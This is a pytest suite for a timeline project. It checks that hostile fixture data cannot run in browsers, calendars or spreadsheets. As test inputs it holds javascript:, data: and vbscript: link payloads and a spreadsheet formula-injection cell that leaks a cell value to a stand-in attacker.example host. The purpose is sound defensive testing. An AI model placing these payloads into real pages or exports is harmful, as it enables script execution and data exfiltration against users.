"""Seed files written by someone hostile to the reader (``fixtures/hostile``): nothing in
them runs in a reader's browser, calendar or spreadsheet, and every page still works."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import icalendar
import pytest
from click.testing import CliRunner

import timeline
from timeline.cli import cli
from timeline.export.formats import export_events
from timeline.safe_output import http_url, json_for_script, spreadsheet_cell
from timeline.web.serve import build_datasette, datasette_metadata

from .conftest import FIXTURES

HOSTILE_URLS = {
    "js-link": "javascript:alert(document.domain)",
    "data-link": "data:text/html,<script>alert(1)</script>",
    "vbscript-link": "  VBScript:msgbox(1)",
}
FORMULA_CELL = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'


def get(datasette, path, **kwargs):
    return asyncio.run(datasette.client.get(path, **kwargs))


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    timeline.load(FIXTURES / "hostile", str(db))
    return db


@pytest.fixture(scope="module")
def datasette(hostile_db):
    return build_datasette(str(hostile_db))


class Links(HTMLParser):
    """Every URL an element would follow or load: href, src, action, formaction."""

    def __init__(self):
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name in ("href", "src", "action", "formaction") and value is not None:
                self.urls.append(value)


def followed_schemes(page: str) -> set[str]:
    parser = Links()
    parser.feed(page)
    # As a browser reads them: tabs and newlines dropped, spaces around trimmed.
    return {urlsplit(re.sub(r"[\t\n\r]", "", url).strip()).scheme.lower() for url in parser.urls}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("https://example.org/a?b=1#c", "https://example.org/a?b=1#c"),
        ("HTTP://EXAMPLE.ORG/", "HTTP://EXAMPLE.ORG/"),
        ("javascript:alert(1)", None),
        ("JavaScript:alert(1)", None),
        (" javascript:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("vbscript:msgbox(1)", None),
        ("mailto:someone@example.org", None),
        ("//example.org/no-scheme", None),
        ("/relative/path", None),
        ("http://", None),
        ("https://example.org/a\r\nBEGIN:VEVENT", None),
        ("https://[::1/unbalanced", None),
        (None, None),
    ],
)
def test_only_absolute_http_urls_are_links(value, expected):
    assert http_url(value) == expected


@pytest.mark.parametrize(
    "path",
    [
        "/hostile/-/timeline",
        "/hostile/-/actors/harbour-board",
        "/hostile/-/actors/ferry-operator",
        *(f"/hostile/-/sources/{source}" for source in (*HOSTILE_URLS, "ics-injection")),
    ],
)
def test_pages_link_only_to_http_urls(datasette, path):
    response = get(datasette, path)

    assert response.status_code == 200
    assert followed_schemes(response.text) <= {"", "http", "https"}


@pytest.mark.parametrize("source", HOSTILE_URLS)
def test_a_url_that_is_not_http_is_shown_as_text(datasette, source):
    page = get(datasette, f"/hostile/-/sources/{source}").text

    shown = re.search(r'<span class="tl-original tl-not-a-link"[^>]*>([^<]*)</span>', page)
    assert shown, "the address is shown, not linked"
    assert "original ↗" not in page


def test_timelinejs_links_only_to_http_urls(hostile_db):
    document = json.loads(export_events("timelinejs", str(hostile_db))[0])
    hrefs = [
        href
        for slide in document["events"]
        for href in re.findall(r'href="([^"]*)"', slide["text"]["text"])
    ]

    assert hrefs == []  # no source of this corpus has a plain http(s) URL
    texts = " ".join(slide["text"]["text"] for slide in document["events"])
    assert "Click Here Gazette: Harbour board approves the new ferry timetable" in texts
    assert "javascript:" not in texts.lower() and "vbscript:" not in texts.lower()


def ics_exports(datasette, hostile_db) -> dict[str, str]:
    return {
        "cli": export_events("ics", str(hostile_db))[0],
        "timeline page": get(datasette, "/hostile/-/timeline.ics").text,
        "events table": get(datasette, "/hostile/events.ics").text,
    }


def test_icalendar_holds_one_event_per_event_whatever_the_text(datasette, hostile_db):
    for where, text in ics_exports(datasette, hostile_db).items():
        calendar = icalendar.Calendar.from_ical(text)
        events = calendar.walk("VEVENT")
        uids = sorted(str(event["UID"]) for event in events)

        assert uids == [
            "2025-03-01-timetable@timeline",
            "2025-03-05-opening@timeline",
            "2025-03-07-second-ferry@timeline",
            "2025-03-09-old-port@timeline",
        ], where
        assert all("URL" not in event for event in events), where  # none is http(s)


def test_icalendar_lines_are_escaped_and_folded(datasette, hostile_db):
    for where, text in ics_exports(datasette, hostile_db).items():
        assert text.endswith("\r\n")
        lines = text.split("\r\n")[:-1]
        assert not any("\r" in line or "\n" in line for line in lines), where
        assert max(len(line.encode("utf-8")) for line in lines) <= 75, where
        assert sum(line in ("BEGIN:VEVENT", "END:VEVENT") for line in lines) == 8, where

    calendar = icalendar.Calendar.from_ical(export_events("ics", str(hostile_db))[0])
    timetable = next(e for e in calendar.walk("VEVENT") if "timetable" in str(e["UID"]))
    assert str(timetable["SUMMARY"]) == "=2+3 Harbour board approves the timetable"
    assert str(timetable["LOCATION"]) == "Port <!--<script> of Kuryk"
    description = str(timetable["DESCRIPTION"])
    assert '-1 ferry a week; "quoted" words, commas; semicolons\\ and a backslash' in description
    assert FORMULA_CELL in description


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1 day", "'+1 day"),
        ("-2 boats", "'-2 boats"),
        ("@everyone", "'@everyone"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("", ""),
        (-2, -2),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_spreadsheet_cells_never_start_a_formula(value, expected):
    assert spreadsheet_cell(value) == expected


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_cli_csv_for_spreadsheets_and_the_faithful_one(hostile_db):
    runner = CliRunner()
    raw = runner.invoke(cli, ["export", "quotes", "--db", str(hostile_db), "--format", "csv"])
    safe = runner.invoke(
        cli, ["export", "quotes", "--db", str(hostile_db), "--format", "csv", "--spreadsheet-safe"]
    )

    assert raw.exit_code == 0 and safe.exit_code == 0, safe.output
    assert FORMULA_CELL in csv_cells(raw.output)
    assert "'" + FORMULA_CELL in csv_cells(safe.output)
    assert not [cell for cell in csv_cells(safe.output) if cell[:1] in ("=", "+", "-", "@")]
    assert len(csv_cells(raw.output)) == len(csv_cells(safe.output))


def test_spreadsheet_safe_is_for_csv_only(hostile_db):
    result = CliRunner().invoke(
        cli, ["export", "quotes", "--db", str(hostile_db), "--format", "json", "--spreadsheet-safe"]
    )
    assert result.exit_code == 2
    assert "--spreadsheet-safe is for --format csv" in result.output


@pytest.mark.parametrize("table", ["quotes", "actors", "events"])
def test_web_csv_for_spreadsheets_and_the_faithful_one(datasette, table):
    raw = get(datasette, f"/hostile/-/export/{table}.csv")
    safe = get(datasette, f"/hostile/-/export/{table}.csv?_spreadsheet=1")

    formulas = [c for c in csv_cells(raw.text) if c[:1] in ("=", "+", "-", "@")]
    assert formulas, "the fixture puts a formula-like cell in every table tested"
    assert not [c for c in csv_cells(safe.text) if c[:1] in ("=", "+", "-", "@")]
    assert ["'" + cell for cell in formulas] == [
        c for c in csv_cells(safe.text) if c[:2] in ("'=", "'+", "'-", "'@")
    ]
    assert safe.headers["content-disposition"] == (
        f'attachment; filename="{table}-for-spreadsheets.csv"'
    )


def test_table_pages_offer_both_csv_exports(datasette):
    page = get(datasette, "/hostile/quotes").text

    assert "/hostile/-/export/quotes.csv" in page
    assert "/hostile/-/export/quotes.csv?_spreadsheet=1" in page


def test_map_markers_cannot_break_out_of_their_script(datasette):
    page = get(datasette, "/hostile/-/map").text
    markers = re.search(
        r'<script type="application/json" id="tl-map-markers">(.*?)</script>', page, re.S
    ).group(1)

    assert "<" not in markers and ">" not in markers and "&" not in markers
    assert json.loads(markers)[0]["name"] == "Port <!--<script> of Kuryk"
    assert json.loads(json_for_script({"s": "\u2028</script>&"})) == {"s": "\u2028</script>&"}
    assert "\u2028" not in json_for_script("\u2028")


@pytest.mark.parametrize(
    "words", ['"', '""', '" OR', 'harbour"', "NEAR(", "-", "*", "AND", "^", "a:b", "'"]
)
def test_any_search_box_text_gives_a_page(datasette, words):
    for path in ("/hostile/-/timeline", "/hostile/-/timeline.json"):
        response = get(datasette, f"{path}?q={quote(words)}")
        assert response.status_code == 200, (path, words, response.text[:300])


def test_search_words_are_found_whatever_surrounds_them(datasette):
    page = get(datasette, "/hostile/-/timeline?q=%22harbour").text
    assert 'id="event-2025-03-01-timetable"' in page
    assert page.count('class="tl-event ') == 1

    page = get(datasette, "/hostile/-/timeline?q=%22").text
    assert "has no word to search for" in page


def test_an_untitled_source_is_headed_by_its_label(datasette):
    page = get(datasette, "/hostile/-/sources/data-link").text

    assert "<h1>Data Post, 2025-03-07 (untitled)</h1>" in page
    assert "<title>Data Post, 2025-03-07 (untitled) · hostile</title>" in page


def test_index_page_links_to_every_canned_query(datasette):
    page = get(datasette, "/").text
    queries = datasette_metadata("hostile")["databases"]["hostile"]["queries"]

    for name in queries:
        assert f'href="/hostile/{name}"' in page
        assert get(datasette, f"/hostile/{name}").status_code == 200
    assert "below" not in page.split("</header>")[-1].split("<h2")[0]
